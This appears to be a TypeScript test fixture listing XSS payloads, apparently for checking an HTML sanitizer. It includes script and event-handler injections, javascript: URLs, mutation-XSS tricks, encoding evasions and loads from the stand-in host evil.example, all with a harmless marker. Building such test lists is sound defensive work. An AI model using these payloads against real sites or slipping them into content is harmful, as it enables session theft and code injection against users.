const RUN = 'window.ran=1'

/** Texts that run code, navigate or call another host when treated as markup, script or address. */
export const PAYLOADS: readonly (readonly [name: string, text: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script put together by dropping another', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script of another host', '<script src="https://evil.example/x.js"></script>'],
  ['a picture that fails', `<img src=x: onerror=${RUN}>`],
  ['a picture never closed', `<img src="x:" onerror="${RUN}" alt="`],
  ['a picture by slashes', `<img/src=x:/onerror=${RUN}//>`],
  ['a drawing', `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  ['a drawing’s link', `<svg><a xlink:href="javascript:${RUN}"><text y=20>点</text></a></svg>`],
  [
    'things that open or take the focus',
    `<details open ontoggle=${RUN}><input autofocus onfocus=${RUN}>`,
  ],
  ['a script as address', `<a href="javascript:${RUN}">点</a>`],
  ['a script as address, in disguise', `<a href=" \u0001jAva&#9;script&colon;${RUN}">点</a>`],
  [
    'a page as address',
    `<a href="data:text/html,<script>opener.${RUN}</script>" target=_blank>点</a>`,
  ],
  [
    'another host as address',
    '<a href="//evil.example/x">点</a><a href="http://evil.example/">点</a>',
  ],
  ['a frame with its own page', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  [
    'a frame that is a script',
    `<iframe src="javascript:parent.${RUN}"></iframe><embed src="javascript:${RUN}">`,
  ],
  ['styles', `<p style="background:url(//evil.example/a);width:expression(${RUN})">字</p>`],
  [
    'a style sheet',
    '<style>@import "//evil.example/b";</style><link rel=stylesheet href=//evil.example/c>',
  ],
  [
    'another base and a way out',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  ],
  [
    'a form',
    `<form action="javascript:${RUN}"><button>点</button></form><button formaction="//evil.example">点</button>`,
  ],
  [
    'mutation by noscript',
    `<noscript><p title="</noscript><img src=x: onerror=${RUN}>"></noscript>`,
  ],
  [
    'mutation by a template',
    `<template><style></template><img src=x: onerror=${RUN}></style></template>`,
  ],
  [
    'mutation by math',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${RUN}>`,
  ],
  [
    'mutation by a table in math',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  ],
  ['mutation by a drawing', `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`],
  [
    'a comment that is none',
    `<!--><img src=x: onerror=${RUN}>--><![CDATA[<img src=x: onerror=${RUN}>]]>`,
  ],
  ['entities', `&lt;img src=x: onerror=${RUN}&gt;`],
  ['entities of entities', `&amp;lt;img src=x: onerror=${RUN}&amp;gt;`],
  ['percent signs', `%3Cscript%3E${RUN}%3C/script%3E`],
  ['wide letters', `＜script＞${RUN}＜/script＞`],
  ['letters nobody sees', `<scr\u200Bipt>${RUN}</script><img src=x: on\u200Derror=${RUN}>`],
  ['text turned around', `\u202E<img src=x: onerror=${RUN}>\u202C`],
  ['templates', `{{constructor.constructor('${RUN}')()}}\${${RUN}}`],
]
